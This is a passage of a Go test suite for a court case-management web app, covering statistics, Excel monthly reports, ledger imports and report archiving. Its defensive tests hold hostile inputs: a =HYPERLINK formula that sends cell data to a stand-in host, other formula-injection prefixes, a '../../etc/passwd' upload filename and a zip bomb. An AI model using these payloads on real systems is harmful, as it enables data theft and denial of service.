package web

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"fuyuan/app"
	"fuyuan/app/apptest"
	"fuyuan/reports"
	"fuyuan/reports/reportstest"
)

// scriptedEnv is a server whose 粤1803 holds the scripted year of issue 6's
// first acceptance line; "today" is 10 January 2026.
func scriptedEnv(t *testing.T, s *appStore, clock *appClock) (*env, reportstest.Year) {
	t.Helper()
	clock.Set(time.Date(2026, 1, 10, 9, 0, 0, 0, app.Shanghai))
	e := newEnv(t, s, clock)
	f := reportstest.New(t, s, "粤1803", e.Courts.Organ.ID, e.Courts.Users["judge1"].ID)
	y := reportstest.ScriptedYear(f)
	// The other court's records are never counted.
	other := reportstest.New(t, s, "粤1881", e.Courts.Organ2.ID, e.Courts.Users["judge3"].ID)
	for i := 0; i < 4; i++ {
		other.Case(reportstest.Case{FiledOn: app.NewDate(2025, 5, 1+i), ClosedOn: app.NewDate(2025, 6, 1+i), Method: "mediation"})
		other.Meeting("enforcement_training", app.NewDate(2025, 5, 1+i), 50)
	}
	return e, y
}

// apiStatsKeys are the keys of GET /stats in api.md.
var apiStatsKeys = []string{"new_cases", "closed", "closed_by_method", "mediation_rate", "withdrawal_rate",
	"mediation_withdrawal_rate", "pre_litigation_received", "pre_litigation_resolved", "resolved_disputes",
	"circuit_hearings", "cross_region_circuit_hearings", "inspections", "joint_mediations", "letters_issued",
	"letters_replied", "letters_adopted", "adoption_rate", "letters_overdue", "trainings", "training_attendances",
	"meetings", "workstation_services", "workstation_people", "fines_adjusted", "fine_reduction", "avg_days_to_close",
	"avg_days_to_close_fast_track", "new_cases_by_year",
	// Added in the second round: agency accountability (issue 16).
	"hearing_cases", "head_appeared_cases", "head_appearance_rate", "head_notified_cases",
	"head_notified_appearance_rate", "head_spoke_rate", "principal_head_rate", "organ_lost", "organ_loss_rate",
	"corrected", "correction_rate", "first_instance_closed", "appealed", "acceptance_rate", "reversed",
	"reversal_rate", "closed_within_limit_rate", "closure_ratio", "clearance_rate", "long_pending"}

func meanDays(xs []int) float64 {
	sum := 0
	for _, x := range xs {
		sum += x
	}
	return float64(int(float64(sum)/float64(len(xs))*10+0.5)) / 10
}

// TestScriptedYearGivesExactFiguresInStatsAndInTheMonthlyReport is issue 6's
// first acceptance line: 45/40/35/30 new cases in 2022–2025, the 2025
// closings and the pre-litigation cases give exactly domain.md's figures in
// GET /stats, and the same figures in the monthly report as LibreOffice reads it.
func TestScriptedYearGivesExactFiguresInStatsAndInTheMonthlyReport(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e, y := scriptedEnv(t, s, clock)
		res := e.as("leader").do("GET", "/api/v1/stats?from=2025-01-01&to=2025-12-31", nil)
		if res.Status != 200 {
			t.Fatalf("stats: %d %s", res.Status, res.Body)
		}
		got := res.Map(t)
		// The contract's keys are all there; the project may add its own.
		for _, k := range apiStatsKeys {
			if _, ok := got[k]; !ok {
				t.Errorf("GET /stats lacks the key %s of api.md", k)
			}
		}
		expect := map[string]any{
			"new_cases": 30.0, "closed": 40.0,
			"closed_by_method": map[string]any{"judgment": 8.0, "mediation": 12.0, "withdrawal": 14.0, "deemed_withdrawal": 4.0,
				"dismissal": 2.0, "transfer": 0.0, "termination": 0.0},
			"mediation_rate": 0.3, "withdrawal_rate": 0.45, "mediation_withdrawal_rate": 0.75,
			"pre_litigation_received": 70.0, "pre_litigation_resolved": 60.0, "resolved_disputes": 90.0,
			"circuit_hearings": 9.0, "cross_region_circuit_hearings": 7.0, "inspections": 15.0, "joint_mediations": 52.0,
			"letters_issued":  map[string]any{"pre_judgment": 5.0, "coordination": 3.0, "judicial": 2.0},
			"letters_replied": 6.0, "letters_adopted": 5.0, "adoption_rate": 0.8333, "letters_overdue": 2.0,
			"trainings": 7.0, "training_attendances": 1050.0,
			"meetings": map[string]any{"annual_training": 1.0, "quarterly_joint": 1.0, "monthly_symposium": 1.0,
				"enforcement_training": 7.0, "joint_conference": 1.0},
			"workstation_services": map[string]any{"consultation": 4.0, "circuit_hearing": 3.0, "publicity": 2.0, "mediation": 5.0},
			"workstation_people":   160.0, "fines_adjusted": 3.0, "fine_reduction": 60000.0,
			"avg_days_to_close": meanDays(y.Days), "avg_days_to_close_fast_track": meanDays(y.FastDays),
			"new_cases_by_year": map[string]any{"2023": 40.0, "2024": 35.0, "2025": 30.0},
		}
		for k, v := range expect {
			if fmt.Sprint(got[k]) != fmt.Sprint(v) {
				t.Errorf("%s = %v, want %v", k, got[k], v)
			}
		}
		lastYear := e.as("leader").do("GET", "/api/v1/stats?from=2024-01-01&to=2024-12-31", nil).Map(t)

		// The monthly report of December 2025: its year to date is 2025, its
		// same period last year is 2024.
		xlsx := e.as("leader").do("GET", "/api/v1/reports/monthly.xlsx?month=2025-12", nil)
		if xlsx.Status != 200 || xlsx.Header.Get("Content-Type") != xlsxType {
			t.Fatalf("monthly report: %d %s", xlsx.Status, trim(xlsx.Body))
		}
		sheets := reportstest.SheetsAsLibreOfficeReadsThem(t, []byte(xlsx.Body), reports.MonthlySheets())
		summary := map[string][]string{}
		for _, row := range sheets[reports.SheetSummary] {
			if len(row) >= 7 {
				summary[row[0]] = row
			}
		}
		if h := summary["指标"]; h == nil || strings.Join(h[:7], ",") != "指标,本月,去年同月,本月同比,本年累计,去年同期,累计同比" {
			t.Fatalf("summary header: %v", h)
		}
		count := func(m map[string]any, k string) string { return fmt.Sprint(m[k]) }
		sub := func(m map[string]any, k, code string) string { return fmt.Sprint(m[k].(map[string]any)[code]) }
		// A rate or an average that is null in JSON (zero denominator) reads "—" in the sheet.
		pct := func(m map[string]any, k string) string {
			if m[k] == nil {
				return reports.Unknown
			}
			return fmt.Sprintf("%.2f%%", m[k].(float64)*100)
		}
		days := func(m map[string]any, k string) string {
			if m[k] == nil {
				return reports.Unknown
			}
			return fmt.Sprintf("%.1f", m[k].(float64))
		}
		lines := []struct {
			label string
			value func(map[string]any) string
		}{
			{"新收案件", func(m map[string]any) string { return count(m, "new_cases") }},
			{"结案", func(m map[string]any) string { return count(m, "closed") }},
			{"调解率", func(m map[string]any) string { return pct(m, "mediation_rate") }},
			{"撤诉率", func(m map[string]any) string { return pct(m, "withdrawal_rate") }},
			{"调撤率", func(m map[string]any) string { return pct(m, "mediation_withdrawal_rate") }},
			{"诉前调解收案", func(m map[string]any) string { return count(m, "pre_litigation_received") }},
			{"诉前调解化解成功", func(m map[string]any) string { return count(m, "pre_litigation_resolved") }},
			{"实质化解行政争议", func(m map[string]any) string { return count(m, "resolved_disputes") }},
			{"平均结案天数", func(m map[string]any) string { return days(m, "avg_days_to_close") }},
			{"快审案件平均结案天数", func(m map[string]any) string { return days(m, "avg_days_to_close_fast_track") }},
			{"巡回审判", func(m map[string]any) string { return count(m, "circuit_hearings") }},
			{"　其中：跨区域巡回审判", func(m map[string]any) string { return count(m, "cross_region_circuit_hearings") }},
			{"现场勘验", func(m map[string]any) string { return count(m, "inspections") }},
			{"府院联合及跨区域联合调解", func(m map[string]any) string { return count(m, "joint_mediations") }},
			{"建议函回复", func(m map[string]any) string { return count(m, "letters_replied") }},
			{"建议函采纳", func(m map[string]any) string { return count(m, "letters_adopted") }},
			{"建议函采纳率", func(m map[string]any) string { return pct(m, "adoption_rate") }},
			{"行政执法培训", func(m map[string]any) string { return count(m, "trainings") }},
			{"行政执法培训人次", func(m map[string]any) string { return count(m, "training_attendances") }},
			{"工作室服务人数", func(m map[string]any) string { return count(m, "workstation_people") }},
			{"罚款调整案件", func(m map[string]any) string { return count(m, "fines_adjusted") }},
			{"罚款调减金额（元）", func(m map[string]any) string {
				return strings.ReplaceAll(fmt.Sprintf("%.2f", m["fine_reduction"].(float64)), "60000", "60,000")
			}},
		}
		for _, code := range reports.LitigationMethods() {
			lines = append(lines, struct {
				label string
				value func(map[string]any) string
			}{"　其中：" + app.CloseMethods.Label(code), func(m map[string]any) string { return sub(m, "closed_by_method", code) }})
		}
		for _, o := range app.MeetingKinds.Options {
			lines = append(lines, struct {
				label string
				value func(map[string]any) string
			}{"会议：" + o.Label, func(m map[string]any) string { return sub(m, "meetings", o.Code) }})
		}
		for _, l := range lines {
			row := summary[l.label]
			if row == nil {
				t.Errorf("summary has no line %q", l.label)
				continue
			}
			if row[4] != l.value(got) {
				t.Errorf("%s: 本年累计 %q, /stats gives %q", l.label, row[4], l.value(got))
			}
			if l.label != "罚款调减金额（元）" && row[5] != l.value(lastYear) {
				t.Errorf("%s: 去年同期 %q, /stats of 2024 gives %q", l.label, row[5], l.value(lastYear))
			}
		}
		// 同比 of the 调撤率 is the change in percentage points (75.00% against 2024's).
		wantChange := fmt.Sprintf("%+.2f%s", (got["mediation_withdrawal_rate"].(float64)-lastYear["mediation_withdrawal_rate"].(float64))*100, reports.PercentagePoints)
		if row := summary["调撤率"]; row[6] != wantChange {
			t.Errorf("调撤率 同比 %q, want %q", row[6], wantChange)
		}
		// The trend sheet has the twelve months of 2025: they add up to the year.
		var newCases, closed int
		for _, row := range sheets[reports.SheetTrend] {
			if len(row) >= 5 && strings.HasPrefix(row[0], "2025-") {
				var n, c int
				fmt.Sscan(row[1], &n)
				fmt.Sscan(row[2], &c)
				newCases += n
				closed += c
			}
		}
		if newCases != 30 || closed != 40 {
			t.Errorf("trend sheet: %d new, %d closed over 2025", newCases, closed)
		}
	})
}

// sheetXML returns the XML of every worksheet of an .xlsx, and its styles.
func sheetXML(t *testing.T, b []byte) (map[string]string, string) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("not a zip: %v", err)
	}
	out := map[string]string{}
	styles := ""
	for _, f := range zr.File {
		rc, _ := f.Open()
		body, _ := io.ReadAll(rc)
		rc.Close()
		if strings.HasPrefix(f.Name, "xl/worksheets/sheet") {
			out[f.Name] = string(body)
		}
		if f.Name == "xl/styles.xml" {
			styles = string(body)
		}
	}
	return out, styles
}

// TestFormulaLikeTextIsWrittenAsText is issue 6's third acceptance line: a
// plaintiff named =HYPERLINK(…) exports as text in the case list and in the
// monthly report (no <f> in any sheet), keeping every character, in a cell
// whose style carries the quote prefix.
func TestFormulaLikeTextIsWrittenAsText(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		names := []string{`=HYPERLINK("http://x/?"&A1,"x")`, "+8613800000000", "-1+2", "@SUM(A1)", "\tcmd", "\rx=1"}
		for _, name := range names[:4] {
			body := caseBody(e, map[string]any{"plaintiff": map[string]any{"name": name, "kind": "个人"}})
			if res := e.as("judge1").do("POST", "/api/v1/cases", body); res.Status != 201 {
				t.Fatalf("create %q: %d %s", name, res.Status, res.Body)
			}
		}
		// The case register trims spaces from names; a ledger may still hold them.
		f := reportstest.New(t, s, "粤1803", e.Courts.Organ.ID, e.Courts.Users["judge1"].ID)
		for _, name := range names[4:] {
			f.Case(reportstest.Case{FiledOn: app.MustDate("2025-06-02"), Plaintiff: name})
		}
		for _, path := range []string{"/api/v1/reports/cases.xlsx", "/api/v1/reports/monthly.xlsx?month=2025-06"} {
			res := e.as("leader").do("GET", path, nil)
			if res.Status != 200 {
				t.Fatalf("%s: %d %s", path, res.Status, res.Body)
			}
			sheets, styles := sheetXML(t, []byte(res.Body))
			for name, x := range sheets {
				if strings.Contains(x, "<f>") || strings.Contains(x, "<f ") {
					t.Errorf("%s %s holds a formula", path, name)
				}
			}
			f, err := excelize.OpenReader(strings.NewReader(res.Body))
			if err != nil {
				t.Fatal(err)
			}
			found := map[string]bool{}
			for _, sh := range f.GetSheetList() {
				rows, _ := f.GetRows(sh, excelize.Options{RawCellValue: true})
				for r, row := range rows {
					for c, v := range row {
						for _, name := range names {
							if v != name {
								continue
							}
							found[name] = true
							cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
							if formula, _ := f.GetCellFormula(sh, cell); formula != "" {
								t.Errorf("%s %s!%s is a formula %q", path, sh, cell, formula)
							}
							id, _ := f.GetCellStyle(sh, cell)
							if !quotePrefixed(styles, id) {
								t.Errorf("%s %s!%s (%q): style %d has no quote prefix", path, sh, cell, name, id)
							}
						}
					}
				}
			}
			f.Close()
			for _, name := range names {
				if !found[name] {
					t.Errorf("%s: plaintiff %q not found with its characters intact", path, name)
				}
			}
		}
	})
}

var xfPattern = regexp.MustCompile(`<xf [^>]*>`)

// quotePrefixed reports whether cell format id of styles.xml carries the quote prefix.
func quotePrefixed(styles string, id int) bool {
	start := strings.Index(styles, "<cellXfs")
	if start < 0 {
		return false
	}
	xfs := xfPattern.FindAllString(styles[start:], -1)
	return id < len(xfs) && (strings.Contains(xfs[id], `quotePrefix="1"`) || strings.Contains(xfs[id], `quotePrefix="true"`))
}

// ledger builds an .xlsx ledger: the header row, then one row per map.
func ledger(t *testing.T, headers []string, rows []map[string]string) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	for c, h := range headers {
		cell, _ := excelize.CoordinatesToCellName(c+1, 1)
		f.SetCellStr("Sheet1", cell, h)
	}
	for r, row := range rows {
		for c, h := range headers {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+2)
			f.SetCellStr("Sheet1", cell, row[h])
		}
	}
	var buf bytes.Buffer
	if err := f.Write(&buf); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// upload posts a file as the multipart field "file".
func (c *client) upload(path string, content []byte, headers ...string) response {
	c.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	w, _ := mw.CreateFormFile("file", "../../etc/passwd.xlsx")
	w.Write(content)
	mw.Close()
	req, _ := http.NewRequest("POST", c.base+path, &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	for i := 0; i+1 < len(headers); i += 2 {
		req.Header.Set(headers[i], headers[i+1])
	}
	res, err := c.http.Do(req)
	if err != nil {
		c.t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return response{Status: res.StatusCode, Body: string(b), Header: res.Header}
}

func ledgerRows() []map[string]string {
	return []map[string]string{
		{"案号": "（2025）粤1803行初901号", "案件类型": "行初", "案由": "行政处罚", "领域": "生态", "原告": "清远市某林场",
			"原告类型": "企业", "被告行政机关": "清远市清新区林业局", "立案日期": "2025-03-04", "承办法官": "judge1", "府院联动": "是",
			"结案日期": "2025-05-20", "结案方式": "调解"},
		{"案件类型": "行初", "案由": "工伤认定", "领域": "劳动社保", "原告": "张三", "原告类型": "个人",
			"被告行政机关": "清远市清新区人力资源和社会保障局", "立案日期": "2025-02-30", "承办法官": "judge2", "府院联动": "否"},
		{"案件类型": "行诉前调", "案由": "行政处罚", "领域": "文旅", "原告": "李四", "原告类型": "个人",
			"被告行政机关": "清远市清新区文化广电旅游体育局", "立案日期": "2025/4/1", "承办法官": "judge1",
			"结案日期": "2025-04-20", "结案方式": "调解"},
	}
}

// TestLedgerImportWithAnImpossibleDateImportsNothingAndTheCorrectedFileEverything
// is issue 6's fourth acceptance line.
func TestLedgerImportWithAnImpossibleDateImportsNothingAndTheCorrectedFileEverything(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		before := caseCount(t, e)
		var organsBefore int64
		s.DB.Table("organs").Count(&organsBefore)
		rows := ledgerRows()
		res := e.as("leader").upload("/api/v1/imports/cases", ledger(t, reports.LedgerHeaders, rows))
		if res.Status != 400 {
			t.Fatalf("bad ledger: %d %s", res.Status, res.Body)
		}
		var bad struct {
			Errors []reports.RowError `json:"errors"`
		}
		res.JSON(t, &bad)
		if len(bad.Errors) != 1 || bad.Errors[0].Row != 3 || bad.Errors[0].Field != "立案日期" || bad.Errors[0].Message == "" {
			t.Fatalf("errors %+v, want one on row 3, 立案日期", bad.Errors)
		}
		var organsAfter int64
		s.DB.Table("organs").Count(&organsAfter)
		if n := caseCount(t, e); n != before || organsAfter != organsBefore {
			t.Fatalf("a refused ledger left %d cases and %d organs (had %d and %d)", n, organsAfter, before, organsBefore)
		}

		rows[1]["立案日期"] = "2025-02-28"
		res = e.as("leader").upload("/api/v1/imports/cases", ledger(t, reports.LedgerHeaders, rows))
		if res.Status != 200 || !strings.Contains(res.Body, `"imported":3`) {
			t.Fatalf("corrected ledger: %d %s", res.Status, res.Body)
		}
		if n := caseCount(t, e); n != before+3 {
			t.Fatalf("%d cases after import, want %d", n, before+3)
		}
		var kept struct {
			Status, CloseMethod string
			Linkage             bool
		}
		s.DB.Raw("SELECT status, close_method, linkage FROM cases WHERE court_code = '粤1803' AND case_no = ?", "（2025）粤1803行初901号").Scan(&kept)
		if kept.Status != "closed" || kept.CloseMethod != "mediation" || !kept.Linkage {
			t.Errorf("the numbered case: %+v", kept)
		}
		var organ int64
		s.DB.Table("organs").Where("court_code = '粤1803' AND name = ?", "清远市清新区人力资源和社会保障局").Count(&organ)
		if organ != 1 {
			t.Error("the new organ was not created by name")
		}
		// Row numbers follow the sheet; the number given is now in use.
		res = e.as("leader").upload("/api/v1/imports/cases", ledger(t, reports.LedgerHeaders, rows[:1]))
		if res.Status != 400 || !strings.Contains(res.Body, `"row":2`) || !strings.Contains(res.Body, "已被使用") {
			t.Fatalf("re-import: %d %s", res.Status, res.Body)
		}
	})
}

// The import page asks for the import's progress as a stream of JSON lines:
// the rows read, the rows checked and filed out of all, and the outcome last
// with the status the plain answer has; a bad file imports nothing as ever.
func TestLedgerImportStreamsItsProgressAndOutcome(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		before := caseCount(t, e)
		type line struct {
			Phase    string             `json:"phase"`
			Done     int                `json:"done"`
			Total    int                `json:"total"`
			Status   int                `json:"status"`
			Imported int                `json:"imported"`
			Errors   []reports.RowError `json:"errors"`
		}
		stream := func(rows []map[string]string) []line {
			t.Helper()
			res := e.as("leader").upload("/api/v1/imports/cases", ledger(t, reports.LedgerHeaders, rows), "Accept", "application/x-ndjson")
			if res.Status != 200 || !strings.HasPrefix(res.Header.Get("Content-Type"), "application/x-ndjson") || res.Header.Get("X-Accel-Buffering") != "no" {
				t.Fatalf("%d %s %q", res.Status, res.Header.Get("Content-Type"), trim(res.Body))
			}
			var out []line
			for _, l := range strings.Split(strings.TrimSpace(res.Body), "\n") {
				var v line
				if err := json.Unmarshal([]byte(l), &v); err != nil {
					t.Fatalf("line %q: %v", l, err)
				}
				out = append(out, v)
			}
			return out
		}
		rows := ledgerRows()
		got := stream(rows)
		last := got[len(got)-1]
		if last.Status != 400 || len(last.Errors) != 1 || last.Errors[0].Row != 3 {
			t.Fatalf("bad ledger's outcome %+v", last)
		}
		if n := caseCount(t, e); n != before {
			t.Fatalf("a refused ledger left %d cases (had %d)", n, before)
		}
		rows[1]["立案日期"] = "2025-02-28"
		got = stream(rows)
		want := []line{{Phase: "read", Done: 3}, {Phase: "import", Done: 0, Total: 3}, {Phase: "import", Done: 3, Total: 3}, {Status: 200, Imported: 3}}
		if fmt.Sprint(got) != fmt.Sprint(want) {
			t.Fatalf("lines %+v, want %+v", got, want)
		}
		if n := caseCount(t, e); n != before+3 {
			t.Fatalf("%d cases after import, want %d", n, before+3)
		}
		// An upload refused before the import starts answers as usual.
		res := e.as("leader").upload("/api/v1/imports/cases", []byte("案号,案件类型\n"), "Accept", "application/x-ndjson")
		if res.Status != 400 || !strings.Contains(res.Body, "file") {
			t.Fatalf("a text file: %d %s", res.Status, trim(res.Body))
		}
	})
}

func TestLedgerUploadsThatAreNotLedgersAreRefused(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		// A zip bomb: a small file whose sheet unzips to more than the limit.
		var bomb bytes.Buffer
		zw := zip.NewWriter(&bomb)
		w, _ := zw.Create("xl/worksheets/sheet1.xml")
		zero := make([]byte, 1<<20)
		for i := 0; i < (reports.MaxLedgerUnzip>>20)+8; i++ {
			w.Write(zero)
		}
		zw.Close()
		missing := ledger(t, []string{"原告", "立案日期"}, []map[string]string{{"原告": "某", "立案日期": "2025-01-01"}})
		cases := []struct {
			name    string
			content []byte
			status  int
			want    string
		}{
			{"a text file", []byte("案号,案件类型\n"), 400, "file"},
			{"a zip that is no workbook", func() []byte {
				var b bytes.Buffer
				z := zip.NewWriter(&b)
				f, _ := z.Create("hello.txt")
				f.Write([]byte("hi"))
				z.Close()
				return b.Bytes()
			}(), 400, "file"},
			{"a zip bomb", bomb.Bytes(), 413, "too_large"},
			{"more than 10 MiB", append([]byte("PK\x03\x04"), make([]byte, 10<<20+10)...), 413, "too_large"},
			{"a ledger without its columns", missing, 400, "案件类型"},
			{"an empty upload", nil, 400, "file"},
		}
		for _, c := range cases {
			start := time.Now()
			res := e.as("leader").upload("/api/v1/imports/cases", c.content)
			if res.Status != c.status || !strings.Contains(res.Body, c.want) {
				t.Errorf("%s: %d %s, want %d with %q", c.name, res.Status, trim(res.Body), c.status, c.want)
			}
			if d := time.Since(start); d > 5*time.Second {
				t.Errorf("%s took %s", c.name, d)
			}
		}
	})
}

func TestImportTemplateStartsWithTheHeadersOfTheAPI(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		res := e.as("leader").do("GET", "/api/v1/imports/cases/template.xlsx", nil)
		if res.Status != 200 {
			t.Fatalf("%d %s", res.Status, res.Body)
		}
		f, err := excelize.OpenReader(strings.NewReader(res.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, _ := f.GetRows(f.GetSheetList()[0])
		want := "案号,案件类型,案由,领域,原告,原告类型,被告行政机关,立案日期,承办法官,府院联动,结案日期,结案方式"
		// api.md's columns first, then the case file's optional ones (issue 18).
		optional := "其他原告（可选）,第三人（可选）,被诉行政行为文号（可选）,被诉行政行为内容（可选）,诉讼请求（可选）"
		if len(rows) == 0 || strings.Join(rows[0], ",") != want+","+optional {
			t.Fatalf("first row %v, want %s then %s", rows, want, optional)
		}
	})
}

// TestAnArchivedMonthNeverChangesAndARegeneratedVersionSitsBesideIt is issue
// 6's fifth acceptance line.
func TestAnArchivedMonthNeverChangesAndARegeneratedVersionSitsBesideIt(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e, y := scriptedEnv(t, s, clock)
		leader := e.as("leader")
		res := leader.do("POST", "/api/v1/reports/archive", map[string]string{"month": "2025-12"})
		if res.Status != 201 {
			t.Fatalf("archive: %d %s", res.Status, res.Body)
		}
		var first reports.Archived
		res.JSON(t, &first)
		download := func(id int64) response {
			r := leader.do("GET", idPath("/api/v1/reports/archive/%d/file", id), nil)
			if r.Status != 200 {
				t.Fatalf("download %d: %d %s", id, r.Status, r.Body)
			}
			return r
		}
		original := download(first.ID).Body
		sum := sha256.Sum256([]byte(original))
		if hex.EncodeToString(sum[:]) != first.SHA256 || first.Version != 1 {
			t.Fatalf("archived %+v, content sha %x", first, sum)
		}
		// Records of December 2025 change afterwards.
		s.DB.Exec("UPDATE cases SET close_method = 'judgment', judgment_result = 'uphold' WHERE id = ?", y.ChangedCase)
		s.DB.Exec("UPDATE cases SET plaintiff_name = '改名后的原告' WHERE id = ?", y.ChangedCase)
		if again := download(first.ID).Body; again != original {
			t.Fatal("the archived file changed after the records changed")
		}
		res = leader.do("POST", "/api/v1/reports/archive", map[string]string{"month": "2025-12"})
		var second reports.Archived
		res.JSON(t, &second)
		if res.Status != 201 || second.Version != 2 || second.ID == first.ID || second.SHA256 == first.SHA256 {
			t.Fatalf("regenerated: %d %+v", res.Status, second)
		}
		if download(first.ID).Body != original {
			t.Fatal("regenerating changed the first version")
		}
		list := leader.do("GET", "/api/v1/reports/archive", nil)
		var archive struct {
			Items []reports.Archived `json:"items"`
		}
		list.JSON(t, &archive)
		versions := 0
		for _, a := range archive.Items {
			if a.Month == "2025-12" {
				versions++
			}
		}
		if versions != 2 {
			t.Errorf("archive lists %d versions of 2025-12: %s", versions, list.Body)
		}
		// Each generation is in the audit trail, with who did it.
		var audited []struct{ Username, Action string }
		s.DB.Raw("SELECT username, action FROM audit_log WHERE court_code = '粤1803' AND entity = 'report' ORDER BY id").Scan(&audited)
		if len(audited) != 2 || audited[0].Username != "leader" || audited[1].Action != "report.archive" {
			t.Errorf("audit %+v", audited)
		}
		// A month that has not begun is refused; another court's file is not found.
		if r := leader.do("POST", "/api/v1/reports/archive", map[string]string{"month": "2026-03"}); r.Status != 400 || !strings.Contains(r.Body, "month") {
			t.Errorf("future month: %d %s", r.Status, r.Body)
		}
		if r := e.as("admin2").do("GET", idPath("/api/v1/reports/archive/%d/file", first.ID), nil); r.Status != 404 {
			t.Errorf("another court's archive: %d", r.Status)
		}
	})
}

// TestTheMonthEndArchiverStoresThePreviousMonthOnce guards the first day of a
// month: the month that ended is archived once per court, by the system.
func TestTheMonthEndArchiverStoresThePreviousMonthOnce(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		clock.Set(time.Date(2025, 8, 1, 0, 30, 0, 0, app.Shanghai))
		for i := 0; i < 2; i++ {
			if err := reports.ArchivePreviousMonths(t.Context(), s, apptest.Quiet()); err != nil {
				t.Fatal(err)
			}
		}
		var rows []struct {
			CourtCode, Month string
			Version          int
			GeneratedBy      *int64
		}
		s.DB.Raw("SELECT court_code, month, version, generated_by FROM report_archive ORDER BY court_code").Scan(&rows)
		if len(rows) != 2 || rows[0].Month != "2025-07" || rows[0].Version != 1 || rows[0].GeneratedBy != nil || rows[1].CourtCode != "粤1881" {
			t.Fatalf("archived %+v", rows)
		}
		list := e.as("leader").do("GET", "/api/v1/reports/archive", nil)
		if !strings.Contains(list.Body, `"month":"2025-07"`) || strings.Count(list.Body, `"month"`) != 1 {
			t.Errorf("leader's archive: %s", list.Body)
		}
	})
}

func TestStatsRefuseAPeriodThatEndsBeforeItStarts(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e := newEnv(t, s, clock)
		cases := []struct {
			query  string
			status int
			field  string
		}{
			{"from=2025-06-01&to=2025-05-31", 400, "from"},
			{"from=2025-02-30", 400, "from"},
			{"to=yesterday", 400, "to"},
			{"from=2025-01-01&to=2025-01-01", 200, ""},
			{"", 200, ""},
		}
		for _, c := range cases {
			res := e.as("judge1").do("GET", "/api/v1/stats?"+c.query, nil)
			if res.Status != c.status || (c.field != "" && !strings.Contains(res.Body, `"`+c.field+`"`)) {
				t.Errorf("?%s: %d %s", c.query, res.Status, res.Body)
			}
		}
		if res := e.as("leader").do("GET", "/api/v1/reports/monthly.xlsx?month=2025-13", nil); res.Status != 400 {
			t.Errorf("month 13: %d", res.Status)
		}
	})
}

// TestTheDivisionChiefReadsTheRateAndDownloadsLastMonthsReportInTwoClicks is
// issue 6's sixth acceptance line, as a browser would do it: open /, read
// this year's 调撤率 and its trend, follow the link to last month's report.
func TestTheDivisionChiefReadsTheRateAndDownloadsLastMonthsReportInTwoClicks(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e, _ := scriptedEnv(t, s, clock)
		clock.Set(time.Date(2025, 12, 31, 9, 0, 0, 0, app.Shanghai))
		home := e.as("leader").do("GET", "/", nil)
		if home.Status != 200 {
			t.Fatalf("/: %d", home.Status)
		}
		for _, want := range []string{"调撤率", "75.00%", "近 12 个月调撤率", "<svg", "近四年新收案件", "今年结案方式", "今日需关注"} {
			if !strings.Contains(home.Body, want) {
				t.Errorf("the dashboard lacks %q", want)
			}
		}
		link := regexp.MustCompile(`href="(/api/v1/reports/monthly\.xlsx\?month=2025-11)"`).FindStringSubmatch(home.Body)
		if link == nil {
			t.Fatal("no link to last month's report on /")
		}
		res := e.as("leader").do("GET", link[1], nil)
		if res.Status != 200 || !strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
			t.Fatalf("download: %d %v", res.Status, res.Header)
		}
		if _, err := excelize.OpenReader(strings.NewReader(res.Body)); err != nil {
			t.Fatal(err)
		}
		// The judge's dashboard starts with their own cases; a mediator and a
		// liaison start elsewhere.
		judge := e.as("judge1").do("GET", "/", nil)
		if judge.Status != 200 || strings.Index(judge.Body, "我的在办案件") > strings.Index(judge.Body, "调撤率") {
			t.Errorf("judge's dashboard: %d", judge.Status)
		}
		for who, where := range map[string]string{"mediator1": "/cases?status=open&sort=deadline_on", "liaison1": "/liaison"} {
			if r := e.as(who).do("GET", "/", nil); r.Status != 303 || r.Header.Get("Location") != where {
				t.Errorf("%s: %d to %q", who, r.Status, r.Header.Get("Location"))
			}
		}
	})
}

// TestMonthlyReportHasItsSheetsAChartAndPrintSetUp guards issue 6's second
// acceptance line: its sheets (six, and issue 16's 行政机关应诉), a chart, 同比 columns, frozen headers, A4
// landscape, rates as numbers with 0.00%, and a file LibreOffice opens.
func TestMonthlyReportHasItsSheetsAChartAndPrintSetUp(t *testing.T) {
	apptest.ForEachDB(t, func(t *testing.T, s *appStore, clock *appClock) {
		e, _ := scriptedEnv(t, s, clock)
		res := e.as("judge1").do("GET", "/api/v1/reports/monthly.xlsx?month=2025-12", nil)
		if res.Status != 200 {
			t.Fatalf("%d %s", res.Status, res.Body)
		}
		again := e.as("judge1").do("GET", "/api/v1/reports/monthly.xlsx?month=2025-12", nil)
		if again.Body != res.Body {
			t.Error("the same data gave different bytes")
		}
		f, err := excelize.OpenReader(strings.NewReader(res.Body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
